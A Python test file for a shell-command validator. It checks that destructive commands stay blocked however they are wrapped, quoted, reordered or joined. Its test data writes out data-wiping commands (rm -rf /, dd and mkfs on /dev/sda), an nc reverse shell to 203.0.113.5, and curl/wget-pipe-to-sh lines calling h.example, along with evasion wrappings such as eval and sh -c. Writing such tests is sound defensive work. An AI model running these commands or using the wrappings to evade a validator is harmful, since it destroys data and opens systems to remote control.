"""What holds for every line: an answer, and the same one however the line is spelled."""

import json
import random
import re
import shlex
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from eidos.protocol import Level, Shell
from eidos.validator.validation import check, judge, judge_pasted

DATA = Path(__file__).parent / "data"
SEVERITY = [Level.OK, Level.WARN, Level.BLOCK]
DANGEROUS = [
    case["cmd"]
    for case in map(json.loads, (DATA / "dangerous.jsonl").read_text().splitlines())
    if case["shell"] == "bash" and "\n" not in case["cmd"]
]
PLAIN = [
    "rm -rf /",
    "rm -r -f /usr",
    "rm -rf ~",
    "chmod -R 777 /etc",
    "mkfs.ext4 /dev/sda1",
    "dd if=/dev/zero of=/dev/sda",
    "shred /dev/sda",
    "mv /etc /tmp/x",
    "nc -e /bin/sh 203.0.113.5 4444",
    "wipefs -a /dev/sda",
    "kill -9 -1",
    "find / -delete",
    "terraform destroy -auto-approve",
]
"""Simple commands that are blocked, without quotes."""
WRAPPINGS = [
    "sudo {}",
    "sudo -u root -- {}",
    "env A=1 {}",
    "env -i {}",
    "nohup nice -n 5 {}",
    "timeout -k 5 10 {}",
    "stdbuf -oL {}",
    "setsid {}",
    "sh -c {quoted}",
    "sudo bash -lc {quoted}",
    "eval {quoted}",
    "ssh host {quoted}",
    "true && {}",
    "( {} )",
    "x=$( {} )",
    "if true; then {} ; fi",
    "for i in 1 2; do {} ; done",
    "echo {quoted} | sh",
    "bash <<< {quoted}",
    "true; {}",
    "{} &",
    "f() {{ {} ; }}; f",
    "busybox sh -c {quoted}",
    "systemd-run --user {}",
    "python3 -c 'import os; os.system({double})'",
    "{} > /dev/null 2>&1",
    "> log eval {quoted}",
]
HARMLESS = ["ls", "echo done", "cd /tmp", "true", "git status", "x=1", "sleep 1", "cat notes.txt"]
JOINS = ["{a}; {b}", "{a} && {b}", "{b} ; {a}", "{a} || {b}", "{b} & {a}", "( {a} ); {b}"]
shells = pytest.mark.parametrize("shell", list(Shell))


def wrapped(command: str, wrapping: str) -> str:
    """Return *command* inside *wrapping*."""
    double = json.dumps(command).replace("'", "'\\''")
    return wrapping.format(command, quoted=shlex.quote(command), double=double)


def level(command: str, shell: Shell = Shell.BASH) -> int:
    """Return how bad *command* is."""
    return SEVERITY.index(check(command, shell).level)


@pytest.mark.parametrize("wrapping", [*WRAPPINGS, "\\{}"])
@pytest.mark.parametrize("command", PLAIN)
def test_wrapping_a_blocked_command_does_not_unblock_it(command: str, wrapping: str) -> None:
    """sudo, env, sh -c, a pipe into sh, a block or a substitution around it change nothing."""
    verdict = check(wrapped(command, wrapping), Shell.BASH)

    assert verdict.level is Level.BLOCK, wrapped(command, wrapping)


@example(command="rm -rf /", wrappings=["if true; then {} ; fi", "sudo {}", "sh -c {quoted}"])
@given(
    command=st.sampled_from(PLAIN),
    wrappings=st.lists(st.sampled_from(WRAPPINGS), min_size=2, max_size=3),
)
def test_wrapping_twice_leaves_danger_visible(command: str, wrappings: list[str]) -> None:
    """Wrappings around wrappings are seen through, or at least warned about."""
    for wrapping in wrappings:
        command = wrapped(command, wrapping)

    assert judge(command, Shell.BASH).level is not Level.OK, command


def respelled(word: str, chance: random.Random) -> str:
    """Return *word* in another spelling that bash reads as the same."""
    if not re.fullmatch(r"[\w/.=:-]+", word):
        return word
    cut = chance.randrange(len(word) + 1)
    head, tail = word[:cut], word[cut:]
    hexadecimal = "".join(f"\\x{ord(char):02x}" for char in word)
    spellings = [
        f"'{word}'",
        f'"{word}"',
        f"{head}''{tail}",
        f'{head}""{tail}',
        f"$'{hexadecimal}'",
        f"{head}'{tail}'",
        f"\"{head}\"'{tail}'",
        "".join(f"\\{char}" for char in word),
        f"{head}$'{tail}'",
    ]
    return chance.choice(spellings)


@given(command=st.sampled_from(PLAIN), chance=st.randoms(use_true_random=False))
def test_quoting_changes_nothing(command: str, chance: random.Random) -> None:
    """Quotes, escapes and ANSI-C strings in any word leave the verdict as it is."""
    spelled = " ".join(respelled(word, chance) for word in command.split())

    assert level(spelled) == level(command), spelled


@given(command=st.sampled_from(PLAIN), chance=st.randoms(use_true_random=False))
def test_variables_that_the_line_sets_change_nothing(command: str, chance: random.Random) -> None:
    """A word that stands in a variable is still that word."""
    words = command.split()
    place = chance.randrange(len(words))
    name, words[place] = words[place], "$v"

    assert level(f"v={name}; {' '.join(words)}") == level(command)


@pytest.mark.parametrize(
    "spellings",
    [
        ["rm -rf /usr", "rm -fr /usr", "rm -r -f /usr", "rm --recursive --force /usr",
         "rm /usr -rf", "rm -rf -- /usr", "rm -Rf /usr/", "rm -rfv --one-file-system /usr"],
        ["chmod -R 777 /etc", "chmod 777 -R /etc", "chmod --recursive 777 /etc",
         "chmod 777 /etc -R", "chmod -cR 0777 /etc/"],
        ["dd if=/dev/zero of=/dev/sda", "dd of=/dev/sda if=/dev/zero",
         "dd bs=1M of=/dev/sda if=/dev/zero"],
        ["git push --force origin main", "git push origin main --force", "git push -f origin main",
         "git -C repo push -f", "git push origin +main"],
        ["curl -s http://h.example/x | sh", "wget -qO- http://h.example/x | sh",
         'sh -c "$(curl -s http://h.example/x)"', "sh <(curl -s http://h.example/x)",
         "curl -so x http://h.example/x; sh x", 'eval "$(wget -qO- http://h.example/x)"'],
    ],
    ids=["rm", "chmod", "dd", "git push", "curl | sh"],
)  # fmt: skip
def test_the_order_and_the_form_of_options_change_nothing(spellings: list[str]) -> None:
    """However a program is told the same, the verdict is the same."""
    assert len({level(spelling) for spelling in spellings}) == 1
    assert level(spellings[0]) > 0


@given(
    command=st.sampled_from(DANGEROUS),
    harmless=st.sampled_from(HARMLESS),
    join=st.sampled_from(JOINS),
)
def test_a_harmless_command_beside_it_lowers_nothing(
    command: str, harmless: str, join: str
) -> None:
    """A list of commands is at least as bad as its worst part."""
    if command.rstrip().endswith(("&", ";")) or "#" in command:
        return
    together = join.format(a=harmless, b=command)

    assert level(together) >= level(command), together


FRAGMENTS = (
    """
rm -rf /¦sh -c '¦$(¦)¦`¦|¦&&¦;¦>¦/dev/sda¦sudo ¦'¦"¦eval ¦find . -exec ¦{} \\;¦{a,b}¦$x¦x=¦f() {¦}
<<¦!¦echo ¦xargs ¦env -S ¦ -- ¦-¦=¦é¦\\¦*¦~¦if ¦fi¦\t¦begin; ¦end¦$((¦))¦[[ ¦]]¦${¦python3 -c "
awk '{¦perl -e '¦base64 -d¦| sh¦<(¦for i in ¦do ¦done¦case ¦esac¦function ¦set -x ¦(cat ¦git -c
""".replace("\n", "¦")
    .strip("¦")
    .split("¦")
)


@shells
@given(text=st.text(max_size=80) | st.lists(st.sampled_from(FRAGMENTS), max_size=25).map(" ".join))
def test_any_text_gets_a_verdict(text: str, shell: Shell) -> None:
    """No text makes the validator raise, and whoever is not ok says why."""
    for verdict in (judge(text, shell), check(text, shell), judge_pasted(text, shell)):
        assert verdict.level in SEVERITY
        assert (verdict.level is Level.OK) == (verdict.rule == "") == (verdict.reason == "")


@given(text=st.lists(st.sampled_from(FRAGMENTS), max_size=25).map(" ".join))
def test_the_same_text_gets_the_same_verdict(text: str) -> None:
    """Nothing is remembered from one line to the next."""
    assert check(text, Shell.ZSH) == check(text, Shell.ZSH)
